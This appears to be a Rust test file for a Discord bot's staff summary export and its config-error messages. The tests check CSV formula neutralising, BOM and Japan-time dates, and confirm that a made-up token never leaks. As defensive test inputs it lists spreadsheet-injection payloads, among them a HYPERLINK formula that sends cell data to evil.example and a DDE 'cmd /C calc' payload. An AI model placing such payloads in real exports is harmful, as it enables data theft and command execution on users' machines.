//! What leaves the bot is safe to open: the summary CSV (formula cells
//! neutralised, a BOM for Japanese Excel, ISO 8601 dates in Japan time) and
//! configuration errors (never a value from `bot.toml`, so never a token).

use std::path::Path;
use std::process::Output;

use seikyu_navi::app::App;
use seikyu_navi::command::parse_line;
use seikyu_navi::config::Config;
use seikyu_navi::content::Lang;
use seikyu_navi::model::Actor;
use seikyu_navi::playbook::{Mode, StepId};
use seikyu_navi::reply::Block;
use seikyu_navi::staff::{self, OfficeRow, Summary};

use crate::support::{cli_output, DAY, T0};

const BOM: &str = "\u{feff}";

/// The header the CSV has always had.
const HEADER: [&str; 10] = [
    "number",
    "name",
    "mode",
    "current_step",
    "done_steps",
    "total_steps",
    "updated_at",
    "stalled",
    "waiting_since",
    "agent",
];

fn row(number: &str, name: &str, updated_at: i64, waiting_since: Option<i64>) -> OfficeRow {
    OfficeRow {
        number: number.into(),
        name: name.into(),
        mode: Mode::Direct,
        current_step: Some(StepId::Notify),
        done_steps: 2,
        total_steps: 10,
        updated_at,
        stalled: false,
        waiting_since,
        step_since: waiting_since.unwrap_or(updated_at),
        days_at_step: 0,
        completed_at: None,
        agent: None,
        current_by_agent: false,
    }
}

fn summary(rows: Vec<OfficeRow>) -> Summary {
    staff::summarize_rows(rows, T0, 7)
}

/// The CSV's records (header first) after the BOM, which must be there.
fn records(csv: &str) -> Vec<Vec<String>> {
    let body = csv.strip_prefix(BOM).unwrap_or_else(|| panic!("no BOM: {csv:?}"));
    assert!(!body.contains(BOM), "one BOM, at the start only");
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(body.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

fn column(records: &[Vec<String>], name: &str) -> Vec<String> {
    let i = records[0].iter().position(|h| h == name).unwrap();
    records[1..].iter().map(|r| r[i].clone()).collect()
}

fn staff_actor() -> Actor {
    Actor {
        id: "s".into(),
        name: "担当".into(),
        staff: true,
        local: false,
    }
}

fn user(id: &str) -> Actor {
    Actor {
        id: id.into(),
        name: id.into(),
        staff: false,
        local: false,
    }
}

/// The `/summary format:csv` attachment, as staff see it on Discord.
fn attachment(app: &App, now: i64) -> Vec<u8> {
    let r = app.handle(
        "staff",
        &staff_actor(),
        &parse_line("/summary format:csv").unwrap(),
        now,
        Lang::Ja,
    );
    assert!(!r.blocks.iter().any(|b| matches!(b, Block::Error(_))), "{r:?}");
    r.attachments
        .into_iter()
        .find(|a| a.name == "summary.csv")
        .unwrap()
        .bytes
}

fn bin(config: &Path, data: &Path, args: &[&str], stdin: &[u8]) -> Output {
    cli_output(config, data, args, stdin)
}

/// Names a spreadsheet would run as formulas (OWASP's list, plus the
/// full-width forms Japanese Excel takes for the ASCII ones).
const FORMULAS: [&str; 11] = [
    "=1+1",
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋SUM(1)",
    "－2+3",
    "＠SUM(1)",
];

/// Names that only look close: left as they are.
const HARMLESS: [&str; 5] = ["介護センター=1", "a+b", "'quoted", "ケア－ライフ", "O'Brien @ 東京"];

#[test]
fn csv_cells_that_a_spreadsheet_would_run_start_with_a_quote() {
    let rows = FORMULAS
        .iter()
        .chain(&HARMLESS)
        .enumerate()
        .map(|(i, name)| row(&format!("13701{i:05}"), name, T0, None))
        .collect();
    let csv = staff::summary_csv(&summary(rows));
    let names = column(&records(&csv), "name");
    let expected: Vec<String> = FORMULAS
        .iter()
        .map(|n| format!("'{n}"))
        .chain(HARMLESS.iter().map(|n| n.to_string()))
        .collect();
    assert_eq!(names, expected);
    // No line of the file starts a cell with a formula character either.
    for line in csv.lines().skip(1) {
        for c in ['=', '+', '-', '@', '＝', '＋', '－', '＠'] {
            assert!(!line.starts_with(c) && !line.contains(&format!(",{c}")), "{line:?}");
        }
    }
}

#[test]
fn csv_starts_with_a_utf8_bom_and_keeps_its_header() {
    let csv = staff::summary_csv(&summary(vec![row("1370100016", "一号事業所", T0, None)]));
    assert!(csv.as_bytes().starts_with(&[0xEF, 0xBB, 0xBF]), "{csv:?}");
    let records = records(&csv);
    assert_eq!(records[0], HEADER);
    assert_eq!(records[1][1], "一号事業所");
    // Written to a stream it is the same bytes.
    let mut out = Vec::new();
    staff::write_summary_csv(&mut out, &summary(vec![row("1370100016", "一号事業所", T0, None)])).unwrap();
    assert_eq!(out, csv.as_bytes());
}

#[test]
fn csv_dates_are_iso_8601_in_japan_time() {
    let rows = vec![
        row("1370100016", "a", T0, None),
        // 2026-11-24 09:30 JST, the example in the issue.
        row("1370100024", "b", T0 + 9 * 3600, Some(T0 - 3 * DAY)),
        // Midnight in Japan is still the day before in UTC.
        row("2710100013", "c", T0 - 1800, Some(T0 - 1800)),
    ];
    let records = records(&staff::summary_csv(&summary(rows)));
    assert_eq!(
        column(&records, "updated_at"),
        [
            "2026-11-24T00:30:00+09:00",
            "2026-11-24T09:30:00+09:00",
            "2026-11-24T00:00:00+09:00"
        ]
    );
    assert_eq!(
        column(&records, "waiting_since"),
        ["", "2026-11-21T00:30:00+09:00", "2026-11-24T00:00:00+09:00"]
    );
}

#[test]
fn csv_with_a_date_no_calendar_has_does_not_panic() {
    // A hand-edited backup can hold any i64 (reliability report, F10).
    let rows = vec![row("1370100016", "a", i64::MAX, Some(i64::MIN))];
    let records = records(&staff::summary_csv(&summary(rows)));
    assert_eq!(column(&records, "updated_at"), [i64::MAX.to_string()]);
    // Every cell goes through the same formula guard, numbers too.
    assert_eq!(column(&records, "waiting_since"), [format!("'{}", i64::MIN)]);
}

#[test]
fn json_summary_keeps_unix_seconds() {
    let s = summary(vec![row("1370100016", "=1+1", T0, Some(T0 - DAY))]);
    let v = serde_json::to_value(&s).unwrap();
    assert_eq!(v["offices"][0]["updated_at"], T0);
    assert_eq!(v["offices"][0]["waiting_since"], T0 - DAY);
    assert_eq!(v["offices"][0]["name"], "=1+1", "JSON is for programs: names as stored");
}

#[test]
fn the_staff_csv_attachment_is_safe_to_open() {
    let dir = tempfile::tempdir().unwrap();
    let app = App::open(Config::default(), dir.path()).unwrap();
    for (i, (channel, line)) in [
        ("c1", "/register number:1370100016 name:=1+1"),
        ("c2", "/register number:1370100024 name:@SUM(1)"),
        ("c3", "/register number:2710100013 name:＝1+1"),
    ]
    .into_iter()
    .enumerate()
    {
        let r = app.handle(
            channel,
            &user(channel),
            &parse_line(line).unwrap(),
            T0 + i as i64,
            Lang::Ja,
        );
        assert!(!r.blocks.iter().any(|b| matches!(b, Block::Error(_))), "{line}: {r:?}");
    }
    let bytes = attachment(&app, T0 + DAY);
    let records = records(std::str::from_utf8(&bytes).unwrap());
    assert_eq!(records[0], HEADER);
    for name in column(&records, "name") {
        assert!(name.starts_with('\''), "{name:?}");
    }
    assert_eq!(
        column(&records, "updated_at"),
        [
            "2026-11-24T00:30:00+09:00",
            "2026-11-24T00:30:01+09:00",
            "2026-11-24T00:30:02+09:00"
        ]
    );
}

#[test]
fn summary_command_writes_the_safe_csv() {
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("bot.toml");
    std::fs::write(&config, "[bot]\n").unwrap();
    let data = dir.path().join("data");
    let out = bin(
        &config,
        &data,
        &["console", "--channel", "c1"],
        "/register number:1370100016 name:=1+1\n".as_bytes(),
    );
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let out = bin(&config, &data, &["summary", "--format", "csv"], b"");
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let csv = String::from_utf8(out.stdout).unwrap();
    let records = records(&csv);
    assert_eq!(records[0], HEADER);
    assert_eq!(column(&records, "name"), ["'=1+1"]);
    let date = regex::Regex::new(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+09:00$").unwrap();
    let updated = &column(&records, "updated_at")[0];
    assert!(date.is_match(updated), "{updated}");
}

/// A real-looking Discord bot token (made up).
const TOKEN: &str = "MTIzNDU2Nzg5MDEyMzQ1Njc4.GaBcDe.aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";

/// `check` on a config file: exit code, stdout, stderr.
fn check(text: &str) -> (i32, String, String) {
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("bot.toml");
    std::fs::write(&config, text).unwrap();
    // An empty data directory: where the bot would create its data.
    let data = dir.path().join("data");
    std::fs::create_dir(&data).unwrap();
    let out = bin(&config, &data, &["check"], b"");
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

/// Whether `text` holds any 9 characters in a row of the token.
fn leaks(text: &str) -> Option<&'static str> {
    (0..=TOKEN.len() - 9)
        .map(|i| &TOKEN[i..i + 9])
        .find(|part| text.contains(part))
}

#[test]
fn a_token_anywhere_in_bot_toml_is_never_printed() {
    // (file, what the error must name: key or table, and the line)
    let cases: Vec<(String, Vec<&str>)> = vec![
        (format!("[discord]\ntoken = \"{TOKEN}\"\n"), vec!["token", "2行目"]),
        (format!("token = \"{TOKEN}\"\n"), vec!["token", "1行目"]),
        (
            format!("  [discord]\n    token   =   \"{TOKEN}\"\n"),
            vec!["token", "2行目"],
        ),
        (
            format!("[bot]\nlocale = \"ja\"\n\n[discord]\nguild_id = \"{TOKEN}\"\n"),
            vec!["guild_id", "5行目"],
        ),
        (
            format!("[discord]\nstaff_role_ids = [1, \"{TOKEN}\"]\n"),
            vec!["staff_role_ids", "2行目"],
        ),
        (
            format!("[discord]\nstaff_role_ids = [\n  1,\n  \"{TOKEN}\",\n]\n"),
            vec!["4行目"],
        ),
        (
            format!("[discord]\napi_base = {{ token = \"{TOKEN}\" }}\n"),
            vec!["api_base", "2行目"],
        ),
        (
            format!("[discord]\nstaff_channel_id = '''{TOKEN}'''\n"),
            vec!["staff_channel_id", "2行目"],
        ),
        (format!("discord = \"{TOKEN}\"\n"), vec!["discord", "1行目"]),
        (format!("[bot]\nlocale = \"{TOKEN}\"\n"), vec!["locale", "2行目"]),
        (
            format!("[bot]\nstall_days = \"{TOKEN}\"\n"),
            vec!["stall_days", "2行目"],
        ),
        (
            format!("[limits]\ncommands_per_minute = \"{TOKEN}\"\n"),
            vec!["commands_per_minute", "2行目"],
        ),
        (
            format!("[vendors.\"ソフト\"]\ntel = \"{TOKEN}\"\n"),
            vec!["name", "1行目"],
        ),
        (format!("[kokuhoren.\"{TOKEN}\"]\nname = \"x\"\n"), vec!["kokuhoren"]),
        (
            format!("[discord]\nguild_id = 1\nguild_id = \"{TOKEN}\"\n"),
            vec!["3行目"],
        ),
        (format!("[discord]\ntoken = {TOKEN}\n"), vec!["2行目"]),
        (format!("[discord]\ntoken = \"{TOKEN}\n"), vec!["2行目"]),
        (format!("[bot]\nlocale = \"ja\" \"{TOKEN}\"\n"), vec!["2行目"]),
        (format!("{TOKEN}\n"), vec!["1行目"]),
        (format!("{TOKEN} = 1\n"), vec!["1行目"]),
        (format!("\"{TOKEN}\" = 1\n"), vec!["1行目"]),
        (format!("[bot.{TOKEN}]\n"), vec!["1行目"]),
        (format!("# ok\n[{TOKEN}]\n"), vec!["2行目"]),
    ];
    for (text, must) in cases {
        let (code, out, err) = check(&text);
        assert_eq!(code, 2, "{text}\n{out}{err}");
        assert!(err.starts_with("設定ファイルを読み込めません"), "localized: {err}");
        for m in must {
            assert!(err.contains(m), "{m:?} missing in {err:?} for {text:?}");
        }
        assert_eq!(leaks(&out), None, "{out}");
        assert_eq!(leaks(&err), None, "stderr for {text:?}:\n{err}");
        assert!(!err.contains("panicked"), "{err}");
    }
}

#[test]
fn config_errors_name_key_and_line_but_not_the_value() {
    let (_, _, err) = check("[bot]\nlocale = \"ja\"\nstal_days = 3\n");
    assert!(err.contains("stal_days") && err.contains("3行目"), "{err}");
    assert!(err.contains("stall_days"), "the keys that exist: {err}");
    let (_, _, err) = check("[bot]\nstall_days = \"seven\"\n");
    assert!(err.contains("stall_days") && err.contains("2行目"), "{err}");
    assert!(!err.contains("seven"), "{err}");
    let (_, _, err) = check("[bot]\nlocale = \"fr\"\n");
    assert!(
        err.contains("locale") && err.contains("2行目") && !err.contains("fr"),
        "{err}"
    );
    let (_, _, err) = check("[discord]\nguild_id = -1\n");
    assert!(
        err.contains("guild_id") && err.contains("2行目") && !err.contains("-1"),
        "{err}"
    );
    let (_, _, err) = check("[kokuhoren.\"48\"]\nname = \"x\"\n");
    assert!(err.contains("48") && err.contains("1行目"), "{err}");
    let (_, _, err) = check("[bot\n");
    assert!(err.contains("1行目"), "{err}");
}

#[test]
fn a_correct_file_still_loads() {
    let (code, out, err) = check(
        "[bot]\nlocale = \"ja\"\nstall_days = 7\n\n[discord]\nguild_id = 123456789012345678\n\
         staff_role_ids = [1, 2]\n\n[kokuhoren.\"13\"]\nname = \"東京都国保連\"\ntel = \"03-0000-0000\"\n",
    );
    assert_eq!(code, 0, "{out}{err}");
    assert!(out.contains("問題はありません"), "{out}");
}

#[test]
fn the_config_module_keeps_the_value_out_of_its_error() {
    for text in [
        format!("[discord]\ntoken = \"{TOKEN}\"\n"),
        format!("[discord]\nguild_id = \"{TOKEN}\"\n"),
        format!("[kokuhoren.\"{TOKEN}\"]\nname = \"x\"\n"),
    ] {
        let e = Config::parse(&text, Path::new("bot.toml")).unwrap_err();
        let shown = format!("{e} {e:?}");
        assert_eq!(leaks(&shown), None, "{shown}");
        assert!(shown.contains("line"), "{shown}");
    }
}
